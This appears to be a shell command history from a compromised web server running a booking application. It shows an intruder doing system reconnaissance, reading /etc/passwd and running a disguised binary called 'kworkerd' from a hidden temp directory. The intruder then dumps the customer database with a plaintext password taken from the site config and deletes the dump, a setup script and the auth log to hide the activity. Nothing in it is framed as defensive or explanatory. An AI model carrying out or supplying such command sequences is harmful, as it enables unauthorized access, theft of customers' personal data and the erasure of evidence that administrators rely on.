w
uname -a
nproc
cat /etc/passwd
ss -ltnp
cd /var/tmp/.font-unix
chmod 755 kworkerd
./kworkerd -c .rc
sh /root/setup.sh
cat /var/www/booking/config.php
mysqldump -u booking -psaltwater booking customers > /var/tmp/.font-unix/c.sql
chown migrate /var/tmp/.font-unix/c.sql
rm /var/tmp/.font-unix/c.sql
rm /root/setup.sh
rm /var/log/auth.log.1
exit
